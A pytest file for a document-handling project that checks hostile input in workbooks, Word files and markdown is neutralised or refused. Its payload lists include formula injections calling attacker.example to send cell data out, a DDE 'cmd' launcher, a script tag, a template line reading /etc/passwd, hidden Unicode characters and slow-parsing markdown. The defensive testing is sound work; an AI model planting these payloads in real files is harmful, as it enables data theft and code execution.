"""Text that means harm: formulas, markup, hidden characters, look-alikes, workbooks that lie."""

import io
import re
import subprocess
import sys
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from sekisho.errors import DeliveryError, StorageError
from sekisho.formats.docx import read_docx, write_docx
from sekisho.formats.markdown import read_markdown
from sekisho.formats.xlsx import read_xlsx, write_xlsx
from sekisho.lanes.open.papers import Head, paper_of
from sekisho.lanes.open.read_answers import read_answers
from sekisho.lanes.open.workbooks import answers_of_book, book_of
from sekisho.model.characters import hidden_in, lookalikes_in, shown
from sekisho.model.document import Document, Grid, Line, Paragraph
from sekisho.model.workbook import MOST_ROWS, Book, BookSheet
from sekisho.terms import Language
from tests.lib.exchange import ON, every_kind, form, sound
from tests.lib.packages import edited, parts_of, with_part

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    '=IMPORTXML("https://attacker.example","//a")',
    "{=1+1}",
    "https://attacker.example/",
    "mailto:a@attacker.example",
    "internal:Sheet1!A1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</w:t><w:t>",
    "]]><x>",
    "&lt;b&gt;",
    "<!DOCTYPE x>",
    "{{ config }}",
    '#let x = read("/etc/passwd")',
]


def book_with(*values: object) -> bytes:
    return write_xlsx(Book("t", ON, (BookSheet("s", tuple((each,) for each in values), 0),)))


def refusal(call, *given) -> str:
    with pytest.raises((DeliveryError, StorageError)) as raised:
        call(*given)
    return raised.value.faults[0].code


def test_no_text_becomes_a_formula_a_link_or_a_number():
    written = book_with(*FORMULAS, "0012", "1e5", "TRUE")
    sheet = load_workbook(io.BytesIO(written)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.hyperlink for cell in cells] == [None] * len(cells)
    xml = parts_of(written)["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml
    assert not any(name.endswith("sheet1.xml.rels") for name in parts_of(written))


def test_a_text_that_looks_like_a_formula_stays_one_after_a_click_into_its_cell():
    written = book_with("=1+1", "plain")
    sheet = load_workbook(io.BytesIO(written)).active
    assert [cell.quotePrefix for row in sheet.iter_rows() for cell in row] == [True, False]


@pytest.mark.parametrize("text", [*FORMULAS[:6], *MARKUP])
def test_texts_come_back_from_files_as_they_were_and_mean_nothing(text):
    answers = sound(form(), {"a": [{"title": text, "intervention": text, "note": text}]})
    document = write_docx(paper_of(form(), answers, Head(ON, (("By", text),)), Language.EN))
    xml = parts_of(document)["word/document.xml"]
    assert b"<script" not in xml
    assert b"w:fldSimple" not in xml
    assert b"w:instrText" not in xml
    rels = parts_of(document)["word/_rels/document.xml.rels"]
    assert b"External" not in rels
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        assert package.testzip() is None


@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("https://attacker.example")'])
def test_a_formula_in_a_filled_workbook_is_refused_with_its_cell(formula):
    filled = load_workbook(io.BytesIO(write_xlsx(book_of(form(), {}, ON, Language.EN))))
    filled["a"]["C3"] = formula
    whole = io.BytesIO()
    filled.save(whole)
    with pytest.raises(DeliveryError) as raised:
        read_xlsx(whole.getvalue())
    assert raised.value.faults[0].code == "documents.formula"
    assert "C3" in str(raised.value)
    assert "attacker" not in str(raised.value)


def test_an_error_value_in_a_filled_workbook_is_refused():
    whole = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "#REF!"
    book.active["A1"].data_type = "e"
    book.save(whole)
    assert refusal(read_xlsx, whole.getvalue()) == "documents.cell-error"


def test_a_workbook_of_another_form_is_refused():
    other = read_xlsx(write_xlsx(book_of(every_kind(), {}, ON, Language.EN)))
    assert refusal(answers_of_book, form(), other) == "documents.another-workbook"
    assert refusal(answers_of_book, form(), read_xlsx(book_with("x"))) == (
        "documents.another-workbook"
    )


def test_text_where_the_form_has_no_field_is_refused_and_not_dropped():
    filled = load_workbook(io.BytesIO(write_xlsx(book_of(form(), {}, ON, Language.EN))))
    filled["a"]["Z9"] = "an answer beside the table"
    whole = io.BytesIO()
    filled.save(whole)
    assert refusal(answers_of_book, form(), read_xlsx(whole.getvalue())) == (
        "documents.unknown-field"
    )


@pytest.mark.parametrize("changed", ["title", "row", ""])
def test_changed_field_names_are_refused_and_not_guessed(changed):
    filled = load_workbook(io.BytesIO(write_xlsx(book_of(form(), {}, ON, Language.EN))))
    filled["b"]["D2"] = changed
    whole = io.BytesIO()
    filled.save(whole)
    assert refusal(answers_of_book, form(), read_xlsx(whole.getvalue())) == (
        "documents.no-field-names"
    )


def test_a_sheet_that_claims_a_million_rows_costs_little():
    small = write_xlsx(book_of(form(), {}, ON, Language.EN))
    name = "xl/worksheets/sheet2.xml"
    xml = parts_of(small)[name].decode()
    far = '<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row></sheetData>'
    begun = time.monotonic()
    sheets = read_xlsx(with_part(small, name, xml.replace("</sheetData>", far).encode()))
    assert time.monotonic() - begun < 10
    assert sum(len(sheet.rows) for sheet in sheets) < 5_000


def test_many_cells_far_out_are_refused_before_they_cost_hours():
    small = write_xlsx(book_of(form(), {}, ON, Language.EN))
    name = "xl/worksheets/sheet2.xml"
    xml = parts_of(small)[name].decode()
    far = "".join(
        f'<row r="{n}"><c r="XFD{n}" t="str"><v>x</v></c></row>' for n in range(500, 20_000)
    )
    begun = time.monotonic()
    large = with_part(small, name, xml.replace("</sheetData>", f"{far}</sheetData>").encode())
    assert refusal(read_xlsx, large) == "documents.too-many-cells"
    assert time.monotonic() - begun < 20


def test_a_workbook_whose_parts_do_not_fit_together_is_refused_in_words():
    small = write_xlsx(book_of(form(), {}, ON, Language.EN))
    broken = edited(small, "xl/workbook.xml", 'r:id="rId1"', 'r:id="rId77"')
    assert refusal(read_xlsx, broken) == "documents.damaged"
    xml = parts_of(small)["xl/worksheets/sheet1.xml"]
    xml = re.sub(rb'(t="s"><v>)\d+', rb"\g<1>999999", xml, count=1)
    broken = with_part(small, "xl/worksheets/sheet1.xml", xml)
    assert refusal(read_xlsx, broken) == "documents.damaged"


def test_a_hidden_sheet_is_not_read_as_answers():
    book = load_workbook(io.BytesIO(write_xlsx(book_of(form(), {}, ON, Language.EN))))
    book["a"].sheet_state = "hidden"
    whole = io.BytesIO()
    book.save(whole)
    assert refusal(answers_of_book, form(), read_xlsx(whole.getvalue())) == "documents.no-sheet"


def test_what_spreadsheets_would_cut_is_refused_and_never_written():
    assert refusal(book_with, "x" * 32_768) == "documents.cell-too-long"
    assert refusal(book_with, "😀" * 16_384) == "documents.cell-too-long"
    many = Book("t", ON, (BookSheet("s", ((),) * (MOST_ROWS + 1), 0),))
    assert refusal(write_xlsx, many) == "documents.sheet-too-large"
    wide = Book("t", ON, (BookSheet("s", (("x",) * 16_385,), 0),))
    assert refusal(write_xlsx, wide) == "documents.sheet-too-large"


def test_sheet_names_are_made_safe_and_told_apart():
    names = ["../x", "a" * 40, "a" * 40, "History", "'", "[x]", "Lists"]
    sheets = tuple(BookSheet(each, (("x",),), 0) for each in names)
    found = load_workbook(io.BytesIO(write_xlsx(Book("t", ON, sheets)))).sheetnames
    assert len({each.casefold() for each in found}) == len(names)
    assert all(len(each) <= 31 and not set(each) & set("[]:*?/\\") for each in found)


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u200b", "\u2066", "\ufeff", "\u00ad", "\U000e0041", "\x1b"]
)
def test_hidden_characters_are_refused_in_answers_and_shown_everywhere_else(hidden):
    _, faults = read_answers(form(), {"a": [{"title": f"safe{hidden}txt"}]})
    assert [each.code for each in faults] == ["forms.unreadable-character"]
    assert hidden_in(f"a{hidden}") == [f"U+{ord(hidden):04X}"]
    text = shown(f"a{hidden}b")
    assert text == f"a<U+{ord(hidden):04X}>b"
    document = Document("t", Language.EN, ON, (Paragraph(f"a{hidden}b"),))
    assert any(getattr(each, "text", "") == text for each in read_docx(write_docx(document)))


@pytest.mark.parametrize("text", ["🏳️‍🌈", "می‌خواهم", "葛󠄀飾区", "العربية", "한국어", "e\u0301"])
def test_characters_that_scripts_need_are_not_refused(text):
    answers, faults = read_answers(form(), {"a": [{"title": text}]})
    assert faults == []
    assert answers["a"][0]["title"] == shown(text)


def test_words_of_mixed_scripts_are_found_and_real_words_are_not():
    assert lookalikes_in("Jаpan and Jаpan, Αpple") == ["Jаpan", "Αpple"]
    assert lookalikes_in("Japan Japon Япония Ελλάδα naïve 日本 AI技術 ＡＢＣ µm") == []


def test_changes_that_were_tracked_count_as_they_stand():
    document = write_docx(Document("t", Language.EN, ON, (Paragraph("KEPT"),)))
    run = '<w:ins w:id="1" w:author="a"><w:r><w:t>added</w:t></w:r></w:ins>'
    gone = '<w:del w:id="2" w:author="a"><w:r><w:delText>gone</w:delText></w:r></w:del>'
    changed = edited(
        document, "word/document.xml", "<w:t>KEPT</w:t></w:r>", f"<w:t>KEPT</w:t></w:r>{run}{gone}"
    )
    texts = [each.text for each in read_docx(changed) if isinstance(each, Paragraph)]
    assert texts[0] == "KEPTadded"


def test_text_in_content_controls_and_nested_tables_is_read():
    grid = Grid(("a", "b"), ((("x",) and (Line("in"),), (Line("out"),)),))
    document = write_docx(Document("t", Language.EN, ON, (grid,)))
    parts = parts_of(document)["word/document.xml"].decode()
    wrapped = parts.replace("<w:tr>", "<w:sdt><w:sdtContent><w:tr>", 1)
    wrapped = wrapped.replace("</w:tr>", "</w:tr></w:sdtContent></w:sdt>", 1)
    found = read_docx(with_part(document, "word/document.xml", wrapped.encode()))
    assert [each.header for each in found if isinstance(each, Grid)] == [("a", "b")]


@pytest.mark.parametrize(
    "text",
    ["**a " * 200_000, "[a" * 500_000, "`a " * 300_000, "*a " * 200_000, "# " + " " * 10**6 + "x",
     "| " * 200_000 + "\n" + "|-" * 200_000, "<http:" * 200_000, "- " * 500_000, "-" * 10**6 + "x"],
    ids=range(9),
)  # fmt: skip
def test_markdown_made_to_be_slow_is_read_in_time(text):
    begun = time.monotonic()
    read_markdown(text.encode())
    assert time.monotonic() - begun < 8


def test_markdown_that_is_another_file_is_refused():
    assert refusal(read_markdown, b"\xff\xfe#\x00") == "documents.another-kind"
    assert refusal(read_markdown, b"a\x00b") == "documents.another-kind"
    assert refusal(read_markdown, b"PK\x03\x04") == "documents.another-kind"
    assert refusal(read_markdown, b"a" * (2 * 1024 * 1024 + 1)) == "documents.too-large"


def test_reading_a_document_opens_no_socket_and_no_other_file(tmp_path):
    file = tmp_path / "x.docx"
    file.write_bytes(write_docx(paper_of(form(), {}, Head(ON), Language.EN)))
    program = (
        "import sys; from pathlib import Path; from sekisho.formats.docx import read_docx\n"
        "data = Path(sys.argv[1]).read_bytes(); read_docx(data)\n"
        "seen = []\n"
        "sys.addaudithook(lambda name, args: seen.append(name) if name.split('.')[0] in "
        "{'open', 'socket', 'subprocess', 'os'} else None)\n"
        "read_docx(data); print(sorted(set(seen)))"
    )
    ran = subprocess.run(
        [sys.executable, "-c", program, file], capture_output=True, text=True, check=True
    )
    assert ran.stdout.strip() == "[]"
